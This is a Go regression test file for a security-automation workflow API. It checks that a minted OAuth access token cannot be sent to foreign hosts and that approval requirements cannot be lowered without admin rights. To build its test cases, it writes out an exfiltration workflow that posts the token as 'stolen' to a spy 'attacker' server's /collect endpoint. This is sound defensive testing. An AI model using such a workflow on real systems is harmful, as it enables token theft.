package api

import (
	"encoding/json"
	"io"
	"net/http"
	"strings"
	"testing"

	"github.com/google/uuid"
	"github.com/stretchr/testify/require"

	"github.com/vigil-soc/vigil/domain/auth"
	"github.com/vigil-soc/vigil/store"
)

// Issue 27 item 1 (HIGH): a workflows:write key copied the built-in Entra token step (the client
// secret goes to its allowed host), added a step sending {{steps.token.response.access_token}} to its
// own server with approval_mode never, and executed: the token arrived there and sat unmasked in the
// run record for every workflows:read key. Now saving such a workflow needs admin, the minted token
// carries the secret's allowed hosts (refused at run time and in dry runs) and is masked in the record.
func TestMintedTokenKeepsTheSecretsHostsAndMasking(t *testing.T) {
	h := newRunHarness(t, "-runs")
	human, _, _, _ := h.keys(t) // workflows:read/write/execute, approvals:write; not admin
	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
	reader := mustKey(t, h.ts.Store, auth.ScopeWorkflowsRead)
	token := "graph-token-" + uuid.NewString()
	issuer := newSpyServer(t, func(w http.ResponseWriter, r *http.Request) bool {
		if !strings.HasSuffix(r.URL.Path, "/token") {
			return false
		}
		w.Header().Set("Content-Type", "application/json")
		_, _ = io.WriteString(w, `{"token_type":"Bearer","expires_in":3599,"access_token":"`+token+`"}`)
		return true
	})
	attacker := newSpyServer(t, nil)
	const secret = "entra-like-client-secret"
	name := "TAINT_SECRET_" + strings.ToUpper(uuid.NewString()[:8])
	r := h.ts.do(t, http.MethodPut, "/v1/workflow-secrets/"+name, admin, map[string]any{"value": secret,
		"allowed_hosts": []string{strings.TrimPrefix(issuer.URL, "http://")}})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	body := func(sendTo, mode string) map[string]any {
		return h.workflowBody("/taint/"+uuid.NewString(), func(b map[string]any) {
			b["approval_mode"], b["indicator_types"] = mode, []string{"url"}
			b["steps"] = []any{
				map[string]any{"name": "token", "method": "POST", "url": issuer.URL + "/token",
					"form_body": map[string]any{"client_secret": "{{secrets." + name + "}}", "grant_type": "client_credentials"}},
				map[string]any{"name": "send", "method": "POST", "url": sendTo,
					"json_body": map[string]any{"stolen": "{{steps.token.response.access_token}}"}},
			}
		})
	}

	// The attack as filed: refused at save for a non-admin key, with the contract's error body.
	m := requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", human, body("{{indicator.value}}", "never")), http.StatusForbidden, "FORBIDDEN")
	require.Equal(t, []any{"admin"}, m["error"].(map[string]any)["details"].(map[string]any)["required_scopes"])
	requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", human, body("{{indicator.value}}", "always")), http.StatusForbidden, "FORBIDDEN")
	// Naming a secret with approval_mode never needs admin too.
	requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", human, h.workflowBody("/taint/never", func(b map[string]any) {
		b["approval_mode"] = "never"
		b["steps"] = []any{map[string]any{"name": "a", "url": issuer.URL + "/a", "headers": map[string]any{"X-Key": "{{secrets." + name + "}}"}}}
	})), http.StatusForbidden, "FORBIDDEN")
	// A written-out foreign host for the minted token: 422 at save, whoever saves it.
	m = requireError(t, h.ts.do(t, http.MethodPost, "/v1/workflows", admin, body(attacker.URL+"/collect", "never")),
		http.StatusUnprocessableEntity, "SECRET_HOST_NOT_ALLOWED")
	require.Equal(t, name, m["error"].(map[string]any)["details"].(map[string]any)["secret"])

	// Saved by an admin with a templated host, it is refused where it would leave the secret's hosts:
	// in a run and in a mock dry run, and the attacker's server sees nothing.
	wf := h.createWorkflow(t, admin, body("{{indicator.value}}", "never"))
	ex := h.execute(t, human, wf, map[string]any{"indicator_type": "url", "indicator_value": attacker.URL + "/collect"})
	run := h.waitRun(t, ex.RunUUID, store.RunFailed)
	require.Contains(t, *run.Error, "SECRET_HOST_NOT_ALLOWED")
	require.Contains(t, *run.Error, "step token's response")
	require.Equal(t, 1, issuer.Count(), "the token step ran")
	r = h.ts.do(t, http.MethodPost, "/v1/workflows/"+wf+"/test", human, map[string]any{"indicator_type": "url",
		"indicator_value": attacker.URL + "/collect", "mock_http_responses": map[string]any{"token": map[string]any{"body": map[string]any{"access_token": token}}}})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Contains(t, string(r.Body), "SECRET_HOST_NOT_ALLOWED")
	require.NotContains(t, string(r.Body), token)
	require.Zero(t, attacker.Count(), "the attacker's server never received the token")

	// The token's own host still gets it; no record shows it, to any front door's reader.
	ex2 := h.execute(t, human, wf, map[string]any{"indicator_type": "url", "indicator_value": issuer.URL + "/use"})
	h.waitRun(t, ex2.RunUUID, store.RunSucceeded)
	require.Contains(t, issuer.Seen(), `"stolen":"`+token+`"`)
	for _, id := range []uuid.UUID{ex.RunUUID, ex2.RunUUID} {
		got := h.ts.do(t, http.MethodGet, "/v1/workflow-runs/"+id.String(), reader, nil)
		require.Equal(t, http.StatusOK, got.Status, string(got.Body))
		require.NotContains(t, string(got.Body), token)
		require.NotContains(t, string(got.Body), secret)
		stored, err := h.ts.Store.GetWorkflowRun(t.Context(), id)
		require.NoError(t, err)
		require.NotContains(t, string(stored.Steps), token, "the stored record every front door reads")
		var recs []map[string]any
		require.NoError(t, json.Unmarshal(stored.Steps, &recs))
		require.EqualValues(t, 3599, recs[0]["response_body"].(map[string]any)["expires_in"], "numbers stay readable")
	}
}

// Issue 27 item 2a (MEDIUM): a workflows:write key lowered an admin's workflow from approval_mode
// always / required_approvals 2 to never / 1 and ran it at once. Lowering either needs admin.
func TestLoweringApprovalNeedsAdmin(t *testing.T) {
	h := newRunHarness(t, "-runs")
	human, _, _, _ := h.keys(t)
	admin := mustKey(t, h.ts.Store, auth.ScopeAdmin)
	path := "/lower/" + uuid.NewString()
	wf := h.createWorkflow(t, admin, h.workflowBody(path, func(b map[string]any) {
		b["approval_mode"], b["required_approvals"] = "always", 2
	}))
	for _, change := range []map[string]any{
		{"approval_mode": "never", "required_approvals": 1},
		{"approval_mode": "never"},
		{"approval_mode": "agent_only"},
		{"required_approvals": 1},
	} {
		m := requireError(t, h.ts.do(t, http.MethodPatch, "/v1/workflows/"+wf, human, change), http.StatusForbidden, "FORBIDDEN")
		require.Equal(t, []any{"admin"}, m["error"].(map[string]any)["details"].(map[string]any)["required_scopes"], change)
	}
	got := h.ts.do(t, http.MethodGet, "/v1/workflows/"+wf, human, nil).JSON(t)["data"].(map[string]any)
	require.Equal(t, "always", got["approval_mode"])
	require.EqualValues(t, 2, got["required_approvals"])
	require.EqualValues(t, 1, got["version"], "nothing was saved")
	ex := h.execute(t, human, wf, map[string]any{"indicator_type": "ip", "indicator_value": "198.51.100.7"})
	require.Equal(t, "pending_approval", ex.Status, "still gated")
	require.Zero(t, h.steps.Hits(path))

	// Raising stays open to workflows:write; an admin may lower.
	r := h.ts.do(t, http.MethodPatch, "/v1/workflows/"+wf, human, map[string]any{"required_approvals": 3, "name": "renamed " + path})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	r = h.ts.do(t, http.MethodPatch, "/v1/workflows/"+wf, admin, map[string]any{"approval_mode": "never", "required_approvals": 1})
	require.Equal(t, http.StatusOK, r.Status, string(r.Body))
	require.Equal(t, "never", r.JSON(t)["data"].(map[string]any)["approval_mode"])
}
